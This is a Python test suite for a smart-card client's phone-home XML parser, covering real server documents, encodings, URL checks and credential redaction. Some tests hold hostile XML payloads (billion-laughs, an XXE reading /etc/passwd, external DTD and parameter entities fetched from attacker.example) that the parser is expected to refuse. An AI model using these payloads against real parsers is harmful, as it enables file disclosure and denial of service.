# SPDX-License-Identifier: GPL-2.0-or-later
"""The phone-home parser: the documents servers really send, and hostile ones."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from escd.errors import PhoneHomeError
from escd.phonehome.parser import (
    DEFAULT_MAX_SIZE,
    PhoneHomeInfo,
    build_info,
    parse_service_info,
    redact_userinfo,
    url_problem,
)

# The Java TPS's conf/tps/phoneHome.xml after deployment (Dogtag's phoneHome.xml, which
# TPSPhoneHome serves as is): no XML declaration, empty UI and EnrolledTokenURL.
JAVA_TPS_DEFAULT = b"""<ServiceInfo><IssuerName>FedoraProject</IssuerName>
    <Services>
        <Operation>https://pki.example.com:8443/tps/tps</Operation>
        <UI></UI>
        <EnrolledTokenBrowserURL>http://fedoraproject.org</EnrolledTokenBrowserURL>
        <EnrolledTokenURL></EnrolledTokenURL>
        <TokenType>userKey</TokenType>
    </Services>
</ServiceInfo>
"""

# Every element ESC reads (ESC.js, phoneHome()), filled in.
SPEC_SAMPLE = b"""<ServiceInfo>
  <IssuerName>Example Corp</IssuerName>
  <Services>
    <Operation>https://tps.example.com:8443/tps/tps</Operation>
    <UI>http://tps.example.com/enroll-ui</UI>
    <EnrolledTokenBrowserURL>http://www.example.com</EnrolledTokenBrowserURL>
    <EnrolledTokenURL>https://tps.example.com/enrolled</EnrolledTokenURL>
    <TokenType>userKey</TokenType>
    <CAChainUI>http://ca.example.com/ca/ee/ca/</CAChainUI>
  </Services>
</ServiceInfo>
"""

# The legacy CGI (legacy: forms/esc/cgi-bin/home/index.cgi) sends a declaration.
LEGACY_CGI = b"""<?xml version="1.0" encoding="UTF-8"?>
<ServiceInfo><IssuerName>Example Corp</IssuerName>
<Services>
<Operation>http://server.example.com:7888/nk_service</Operation>
<UI>http://server.example.com:7888/cgi_bin/esc.cgi</UI>
<EnrolledTokenBrowserURL>http://www.test.url.com</EnrolledTokenBrowserURL>
</Services>
</ServiceInfo>"""

# ESC manual, Example 3.1, as printed: the "## …" notes are inside the values.
MANUAL_EXAMPLE_AS_PRINTED = b"""<ServiceInfo><IssuerName>Example Corp</IssuerName>
<Services>
<Operation>http://server.example.com:7888/nk_service ## TPS server URL
</Operation>
<UI>http://server.example.com:7888/cgi_bin/esc.cgi ## Optional
Enrollment UI
</UI>
<EnrolledTokenBrowserURL>http://www.test.url.com ## Optional
enrolled token url
</EnrolledTokenBrowserURL>
</Services>
</ServiceInfo>"""


def test_java_tps_default_document_fills_the_info() -> None:
    info = parse_service_info(JAVA_TPS_DEFAULT)
    assert info == PhoneHomeInfo(
        issuer_name="FedoraProject",
        tps_url="https://pki.example.com:8443/tps/tps",
        enrolled_token_browser_url="http://fedoraproject.org",
        token_type="userKey",
        services=(
            ("Operation", "https://pki.example.com:8443/tps/tps"),
            ("UI", ""),
            ("EnrolledTokenBrowserURL", "http://fedoraproject.org"),
            ("EnrolledTokenURL", ""),
            ("TokenType", "userKey"),
        ),
    )


def test_every_known_element_lands_in_its_field() -> None:
    info = parse_service_info(SPEC_SAMPLE)
    assert info.issuer_name == "Example Corp"
    assert info.tps_url == "https://tps.example.com:8443/tps/tps"
    assert info.enrollment_ui_url == "http://tps.example.com/enroll-ui"
    assert info.enrolled_token_browser_url == "http://www.example.com"
    assert info.enrolled_token_url == "https://tps.example.com/enrolled"
    assert info.token_type == "userKey"
    assert info.ca_chain_url == "http://ca.example.com/ca/ee/ca/"
    assert [name for name, _ in info.services] == [
        "Operation",
        "UI",
        "EnrolledTokenBrowserURL",
        "EnrolledTokenURL",
        "TokenType",
        "CAChainUI",
    ]
    assert info.problems == ()


def test_legacy_cgi_document_with_xml_declaration() -> None:
    info = parse_service_info(LEGACY_CGI)
    assert info.tps_url == "http://server.example.com:7888/nk_service"
    assert info.enrollment_ui_url == "http://server.example.com:7888/cgi_bin/esc.cgi"
    assert info.token_type is None
    assert info.ca_chain_url is None


def test_manual_example_without_its_annotations_parses_with_values_stripped() -> None:
    cleaned = MANUAL_EXAMPLE_AS_PRINTED.replace(b" ## TPS server URL", b"")
    cleaned = cleaned.replace(b" ## Optional\nEnrollment UI", b"")
    cleaned = cleaned.replace(b" ## Optional\nenrolled token url", b"")
    info = parse_service_info(cleaned)
    assert info.tps_url == "http://server.example.com:7888/nk_service"
    assert info.enrolled_token_browser_url == "http://www.test.url.com"


def test_manual_example_as_printed_fails_on_its_operation_url() -> None:
    with pytest.raises(PhoneHomeError) as caught:
        parse_service_info(MANUAL_EXAMPLE_AS_PRINTED)
    assert "Operation" in caught.value.reason


def test_missing_optional_elements_are_none() -> None:
    info = parse_service_info(
        b"<ServiceInfo><IssuerName>X</IssuerName><Services>"
        b"<Operation>https://tps/tps/tps</Operation></Services></ServiceInfo>"
    )
    assert info.tps_url == "https://tps/tps/tps"
    assert (
        info.enrollment_ui_url,
        info.enrolled_token_browser_url,
        info.enrolled_token_url,
        info.token_type,
        info.ca_chain_url,
    ) == (None, None, None, None, None)


def test_services_may_be_empty_and_operation_absent() -> None:
    info = parse_service_info(b"<ServiceInfo><IssuerName>X</IssuerName><Services/></ServiceInfo>")
    assert info.tps_url is None
    assert info.services == ()


def test_unknown_elements_are_kept_in_order_and_are_not_fatal() -> None:
    info = parse_service_info(
        b"<ServiceInfo><IssuerName>X</IssuerName><Services>"
        b"<Foo>one</Foo><Operation>https://t/tps</Operation><Bar/><Baz>  two  </Baz>"
        b"</Services><Extra>ignored</Extra></ServiceInfo>"
    )
    assert info.services == (
        ("Foo", "one"),
        ("Operation", "https://t/tps"),
        ("Bar", ""),
        ("Baz", "two"),
    )


def test_value_is_the_text_before_nested_markup_as_in_esc() -> None:
    info = parse_service_info(
        b"<ServiceInfo><IssuerName>X</IssuerName><Services>"
        b"<TokenType>userKey<b>bold</b>tail</TokenType></Services></ServiceInfo>"
    )
    assert info.token_type == "userKey"


def test_comments_and_cdata_are_handled() -> None:
    info = parse_service_info(
        b"<ServiceInfo><!-- issuer --><IssuerName><![CDATA[A & B]]></IssuerName>"
        b"<Services><TokenType>userKey</TokenType></Services></ServiceInfo>"
    )
    assert info.issuer_name == "A & B"


def test_an_unusable_optional_url_is_dropped_with_a_problem_noted() -> None:
    info = parse_service_info(
        b"<ServiceInfo><IssuerName>X</IssuerName><Services>"
        b"<Operation>https://t/tps</Operation><UI>javascript:alert(1)</UI></Services>"
        b"</ServiceInfo>"
    )
    assert info.enrollment_ui_url is None
    assert info.services[1] == ("UI", "javascript:alert(1)")
    assert len(info.problems) == 1 and info.problems[0].startswith("UI ignored")


@pytest.mark.parametrize(
    "operation",
    ["ftp://tps.example.com/tps", "https://", "tps.example.com:8443/tps/tps", "https://a:99999/x",
     "https://user:secret@tps.example.com/tps"],
)  # fmt: skip
def test_an_unusable_operation_url_is_an_error_not_a_crash(operation: str) -> None:
    doc = (
        "<ServiceInfo><IssuerName>X</IssuerName><Services>"
        f"<Operation>{operation}</Operation></Services></ServiceInfo>"
    ).encode()
    with pytest.raises(PhoneHomeError) as caught:
        parse_service_info(doc)
    assert caught.value.reason.startswith("Operation is not a usable TPS URL")


def test_a_repeated_operation_is_refused() -> None:
    doc = (
        b"<ServiceInfo><IssuerName>X</IssuerName><Services>"
        b"<Operation>https://a/tps</Operation><Operation>https://b/tps</Operation>"
        b"</Services></ServiceInfo>"
    )
    with pytest.raises(PhoneHomeError, match="more than once"):
        parse_service_info(doc)


@pytest.mark.parametrize(
    ("doc", "reason"),
    [
        (b"<ServiceInfo><Services/></ServiceInfo>", "IssuerName is missing"),
        (b"<ServiceInfo><IssuerName> </IssuerName><Services/></ServiceInfo>",
         "IssuerName is missing or empty"),
        (b"<ServiceInfo><IssuerName>X</IssuerName></ServiceInfo>", "Services is missing"),
        (b"<Other><IssuerName>X</IssuerName><Services/></Other>", "root is <Other>"),
        (b'<ServiceInfo xmlns="urn:x"><IssuerName>X</IssuerName><Services/></ServiceInfo>',
         "not <ServiceInfo>"),
        (b"", "empty"),
        (b"  \n", "empty"),
        (b"<html><body>502 Bad Gateway</body></html>", "root is <html>"),
        (b"<ServiceInfo><IssuerName>X</IssuerName><Services>", "not well-formed"),
        (b"IssuerName=X", "not well-formed"),
    ],
)  # fmt: skip
def test_documents_esc_could_not_use_are_errors_with_a_reason(doc: bytes, reason: str) -> None:
    with pytest.raises(PhoneHomeError) as caught:
        parse_service_info(doc)
    assert reason in caught.value.reason


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE ServiceInfo [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ServiceInfo><IssuerName>&lol9;</IssuerName><Services/></ServiceInfo>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ServiceInfo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ServiceInfo><IssuerName>&xxe;</IssuerName><Services/></ServiceInfo>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ServiceInfo SYSTEM "http://attacker.example/evil.dtd">
<ServiceInfo><IssuerName>X</IssuerName><Services/></ServiceInfo>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ServiceInfo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<ServiceInfo><IssuerName>X</IssuerName><Services/></ServiceInfo>"""

PLAIN_DOCTYPE = b"""<!DOCTYPE ServiceInfo>
<ServiceInfo><IssuerName>X</IssuerName><Services/></ServiceInfo>"""


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DOCTYPE],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "doctype"],
)
def test_dtds_and_entities_are_refused_quickly(doc: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(PhoneHomeError) as caught:
        parse_service_info(doc)
    assert time.monotonic() - started < 1.0
    assert "DTD" in caught.value.reason or "entities" in caught.value.reason


def test_quadratic_blowup_entity_is_refused() -> None:
    doc = (
        b'<!DOCTYPE ServiceInfo [<!ENTITY a "' + b"x" * 10000 + b'">]>'
        b"<ServiceInfo><IssuerName>" + b"&a;" * 1000 + b"</IssuerName><Services/></ServiceInfo>"
    )
    with pytest.raises(PhoneHomeError):
        parse_service_info(doc)


def test_ten_megabyte_answer_is_refused_before_parsing() -> None:
    # Well-formed on purpose: only the size check can reject it, and it must do so
    # without handing 10 MB to the XML parser.
    filler = b"<Pad>" + b"x" * (10 * 1024 * 1024) + b"</Pad>"
    doc = (
        b"<ServiceInfo><IssuerName>X</IssuerName><Services>" + filler + b"</Services></ServiceInfo>"
    )
    started = time.monotonic()
    with pytest.raises(PhoneHomeError) as caught:
        parse_service_info(doc)
    assert time.monotonic() - started < 0.5
    assert caught.value.reason == f"the answer is larger than {DEFAULT_MAX_SIZE} bytes"


def test_size_limit_is_a_parameter() -> None:
    assert parse_service_info(SPEC_SAMPLE, max_size=len(SPEC_SAMPLE)).issuer_name == "Example Corp"
    with pytest.raises(PhoneHomeError, match="larger than"):
        parse_service_info(SPEC_SAMPLE, max_size=len(SPEC_SAMPLE) - 1)


def test_undeclared_non_utf8_is_refused_with_a_clear_reason() -> None:
    doc = b"<ServiceInfo><IssuerName>Soci\xe9t\xe9</IssuerName><Services/></ServiceInfo>"
    with pytest.raises(PhoneHomeError) as caught:
        parse_service_info(doc)
    assert "not UTF-8" in caught.value.reason
    assert "declares no encoding" in caught.value.reason


def test_declared_latin1_is_read() -> None:
    doc = (
        b'<?xml version="1.0" encoding="ISO-8859-1"?>'
        b"<ServiceInfo><IssuerName>Soci\xe9t\xe9</IssuerName><Services/></ServiceInfo>"
    )
    assert parse_service_info(doc).issuer_name == "Société"


def test_utf16_with_bom_is_read() -> None:
    doc = "<ServiceInfo><IssuerName>Ünïcode</IssuerName><Services/></ServiceInfo>"
    assert parse_service_info(doc.encode("utf-16")).issuer_name == "Ünïcode"


def test_unknown_declared_encoding_is_an_error() -> None:
    doc = b'<?xml version="1.0" encoding="x-no-such"?><ServiceInfo/>'
    with pytest.raises(PhoneHomeError, match="encoding"):
        parse_service_info(doc)


def test_deep_nesting_inside_the_size_cap_does_not_crash() -> None:
    depth = 5000
    doc = (
        b"<ServiceInfo><IssuerName>X</IssuerName><Services><Deep>"
        + b"<a>" * depth
        + b"</a>" * depth
        + b"</Deep></Services></ServiceInfo>"
    )
    info = parse_service_info(doc, max_size=len(doc))
    assert info.services == (("Deep", ""),)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=512))
def test_arbitrary_bytes_give_info_or_phone_home_error_only(data: bytes) -> None:
    try:
        parse_service_info(data)
    except PhoneHomeError:
        pass


@settings(max_examples=200, deadline=None)
@given(
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=40),
    st.lists(
        st.tuples(st.sampled_from(["Operation", "UI", "TokenType", "Other"]), st.text(max_size=40)),
        max_size=5,
    ),
)
def test_build_info_never_raises_anything_but_phone_home_error(
    issuer: str, services: list[tuple[str, str]]
) -> None:
    try:
        info = build_info(issuer, services)
    except PhoneHomeError:
        return
    assert info.issuer_name == issuer.strip()
    if info.tps_url is not None:
        assert url_problem(info.tps_url) is None


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://tps.example.com:8443/tps/tps", True),
        ("http://[2001:db8::1]:8080/tps/phoneHome", True),
        ("HTTPS://TPS.EXAMPLE.COM/", True),
        ("https://tps.example.com:0/", False),
        ("https://tps example.com/", False),
        ("https://tps.example.com/\x00", False),
        ("file:///etc/passwd", False),
        ("//tps.example.com/tps", False),
        ("https://[::1/", False),
    ],
)
def test_url_problem(url: str, ok: bool) -> None:
    assert (url_problem(url) is None) is ok


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://jdoe:s3cret@tps.example.com/tps", "https://<redacted>@tps.example.com/tps"),
        ("http://s3cret@[::1]:8080/x?a=b@c", "http://<redacted>@[::1]:8080/x?a=b@c"),
        ("https://a@b:s3cret@tps.example.com", "https://<redacted>@tps.example.com"),
        ("https://tps.example.com/users/a@b", "https://tps.example.com/users/a@b"),
        ("not a url at all", "not a url at all"),
    ],
)
def test_redact_userinfo_hides_what_url_problem_refuses(url: str, shown: str) -> None:
    assert redact_userinfo(url) == shown
    assert "s3cret" not in redact_userinfo(url)
